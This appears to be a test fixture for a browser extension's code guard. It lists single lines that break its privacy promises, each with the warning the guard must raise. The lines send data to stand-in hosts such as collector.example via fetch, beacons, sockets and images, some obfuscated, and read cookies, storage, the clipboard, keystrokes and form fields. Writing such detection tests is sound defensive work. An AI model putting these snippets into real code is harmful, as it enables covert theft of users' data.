@@ -1,0 +1,209 @@
+/** The smallest breaches of promises one, two and six, each one line for the end of a file that runs in pages. */
+
+export interface Plant {
+  /** Below src/. */
+  file: string;
+  line: string;
+  /** What the guard must say. */
+  found: RegExp;
+}
+
+const SENDING: Record<string, Plant> = {
+  'fetch in a script that a page loads': {
+    file: 'content/moments.iife.ts',
+    line: "void fetch('https://collector.example/');",
+    found: /fetch/,
+  },
+  'fetch in what scripts import': { file: 'detection/visible.ts', line: "void fetch('/x');", found: /fetch/ },
+  'fetch by text': { file: 'content/detect.iife.ts', line: "void globalThis['fetch']('/x');", found: /fetch/ },
+  'fetch from parts': { file: 'ui/Panel.tsx', line: "Reflect.get(globalThis, 'fe' + 'tch')('/x');", found: /"fetch"/ },
+  'fetch under another name': {
+    file: 'detection/query.ts',
+    line: 'export const ask = globalThis;',
+    found: /globalThis/,
+  },
+  'a picture': { file: 'content/detect.iife.ts', line: "new Image().src = 'https://x.example/';", found: /Image/ },
+  'a picture as an element': {
+    file: 'content/note.ts',
+    line: "document.createElement('img').setAttribute('src', 'https://x.example/');",
+    found: /makes <img>/,
+  },
+  'a picture by properties': {
+    file: 'content/note.ts',
+    line: "Object.assign(document.createElement('div'), { src: 'https://x.example/' });",
+    found: /"src"/,
+  },
+  'a picture in the panel': {
+    file: 'ui/Lead.tsx',
+    line: 'export const Trace = () => <img alt="" src="/x" />;',
+    found: /<img>/,
+  },
+  'a style that loads': {
+    file: 'content/note.ts',
+    line: "document.body.style.backgroundImage = 'url(https://x.example/)';",
+    found: /address that loads/,
+  },
+  'a beacon': { file: 'content/send.ts', line: "navigator.sendBeacon('https://x.example/');", found: /sendBeacon/ },
+  'a socket': { file: 'content/keys.ts', line: "new WebSocket('wss://x.example/');", found: /WebSocket/ },
+  'an event source': { file: 'content/keys.ts', line: "new EventSource('/x');", found: /EventSource/ },
+  'an old request': { file: 'content/keys.ts', line: 'new XMLHttpRequest();', found: /XMLHttpRequest/ },
+  'a peer connection': { file: 'content/routes.ts', line: 'new RTCPeerConnection();', found: /RTCPeerConnection/ },
+  'a web transport': {
+    file: 'content/routes.ts',
+    line: "new WebTransport('https://x.example/');",
+    found: /WebTransport/,
+  },
+  'a window': { file: 'content/place.ts', line: "open('https://x.example/');", found: /open/ },
+  'another address': {
+    file: 'content/place.ts',
+    line: "location.href = 'https://x.example/';",
+    found: /Location\.href/,
+  },
+  'another address at once': { file: 'content/place.ts', line: "location.assign('/x');", found: /Location\.assign/ },
+  'another address by the navigation': {
+    file: 'content/detect.iife.ts',
+    line: "navigation.navigate('/x');",
+    found: /Navigation\.navigate/,
+  },
+  'a form': { file: 'content/note.ts', line: "document.querySelector('form')?.submit();", found: /submit/ },
+  'code from elsewhere': {
+    file: 'content/note.ts',
+    line: "void import('https://x.example/x.js');",
+    found: /loads code/,
+  },
+  'a worker': { file: 'content/note.ts', line: "new Worker('/x.js');", found: /Worker/ },
+  'a font': { file: 'content/note.ts', line: "new FontFace('x', 'y');", found: /FontFace/ },
+  'a message to the page': { file: 'content/note.ts', line: "window.postMessage('seen', '*');", found: /postMessage/ },
+  'a mark that the page can read': {
+    file: 'content/note.ts',
+    line: "document.documentElement.setAttribute('data-many', '1');",
+    found: /setAttribute/,
+  },
+  markup: {
+    file: 'ui/Lead.tsx',
+    line: 'export const Raw = () => <p dangerouslySetInnerHTML={{ __html: "x" }} />;',
+    found: /dangerously/,
+  },
+};
+
+const READING: Record<string, Plant> = {
+  'the text of a message': {
+    file: 'detection/moments.ts',
+    line: 'export const said = (answer: Element) => answer.textContent;',
+    found: /textContent/,
+  },
+  'what stands in the composer': {
+    file: 'content/dock.ts',
+    line: "export const typed = () => document.querySelector('textarea')?.value;",
+    found: /HTMLTextAreaElement\.value/,
+  },
+  'every field': {
+    file: 'content/moments.iife.ts',
+    line: "addEventListener('input', (event) => event.target instanceof HTMLInputElement && void event.target.value);",
+    found: /HTMLInputElement\.value/,
+  },
+  'the data of a text': {
+    file: 'detection/query.ts',
+    line: 'export const said = (text: Text) => text.data;',
+    found: /CharacterData\.data/,
+  },
+  'a text taken out': {
+    file: 'detection/query.ts',
+    line: 'export const said = ({ textContent }: Node) => textContent;',
+    found: /textContent/,
+  },
+  'a value taken out': {
+    file: 'detection/query.ts',
+    line: 'export const said = ({ value }: HTMLInputElement) => value;',
+    found: /"value"/,
+  },
+  'a value under a type of one’s own': {
+    file: 'detection/query.ts',
+    line: 'export const said = (field: { value: string }) => field.value;',
+    found: /"value"/,
+  },
+  'a cast that hides it': {
+    file: 'detection/query.ts',
+    line: 'export const said = (field: Element) => (field as unknown as Record<string, string>).any;',
+    found: /casts twice/,
+  },
+  'a name from parts': {
+    file: 'content/place.ts',
+    line: "export const said = (node: Record<string, string>) => node['text' + 'Content'];",
+    found: /textContent/,
+  },
+  'visible text': {
+    file: 'ui/jump.ts',
+    line: 'export const said = () => document.body.innerText;',
+    found: /innerText/,
+  },
+  'markup of the page': {
+    file: 'ui/jump.ts',
+    line: 'export const said = () => document.body.innerHTML;',
+    found: /innerHTML/,
+  },
+  'what is selected': {
+    file: 'content/keys.ts',
+    line: 'export const said = () => String(getSelection());',
+    found: /getSelection/,
+  },
+  'a range': {
+    file: 'content/keys.ts',
+    line: 'export const said = () => String(document.createRange());',
+    found: /createRange/,
+  },
+  'a walk over texts': {
+    file: 'content/keys.ts',
+    line: 'document.createTreeWalker(document.body, 4);',
+    found: /createTreeWalker/,
+  },
+  'a form’s data': {
+    file: 'content/keys.ts',
+    line: 'export const said = (form: HTMLFormElement) => [...new FormData(form)];',
+    found: /FormData/,
+  },
+  'the clipboard': { file: 'ui/copy.ts', line: 'void navigator.clipboard.readText();', found: /readText/ },
+  'what is pasted': {
+    file: 'content/keys.ts',
+    line: "addEventListener('paste', (event) => void event.clipboardData?.getData('text'));",
+    found: /clipboardData/,
+  },
+  'what is typed': {
+    file: 'content/moments.iife.ts',
+    line: "addEventListener('keydown', ({ key }) => void key);",
+    found: /"key"/,
+  },
+  'the letters of an input': {
+    file: 'content/moments.iife.ts',
+    line: "addEventListener('beforeinput', (event) => void event.data);",
+    found: /InputEvent\.data/,
+  },
+  'the title of the page': { file: 'content/detect.iife.ts', line: 'void document.title;', found: /Document\.title/ },
+  'a value by selector': {
+    file: 'content/detect.iife.ts',
+    line: `void document.querySelector('input[value^="a"]');`,
+    found: /selects by what is written/,
+  },
+  cookies: { file: 'content/detect.iife.ts', line: 'void document.cookie;', found: /cookie/ },
+  'the page’s own storage': {
+    file: 'content/detect.iife.ts',
+    line: "void localStorage.getItem('x');",
+    found: /localStorage/,
+  },
+};
+
+const WATCHING: Record<string, Plant> = {
+  'a look at every change': {
+    file: 'content/moments.iife.ts',
+    line: 'new MutationObserver(() => undefined).observe(document, { childList: true, subtree: true });',
+    found: /MutationObserver/,
+  },
+  'a timer in the label': { file: 'content/chip.ts', line: 'setInterval(() => undefined, 100);', found: /setInterval/ },
+  'a look at every frame': {
+    file: 'content/place.ts',
+    line: 'requestAnimationFrame(() => undefined);',
+    found: /requestAnimationFrame/,
+  },
+};
+
+export const PLANTS: Readonly<Record<string, Plant>> = { ...SENDING, ...READING, ...WATCHING };
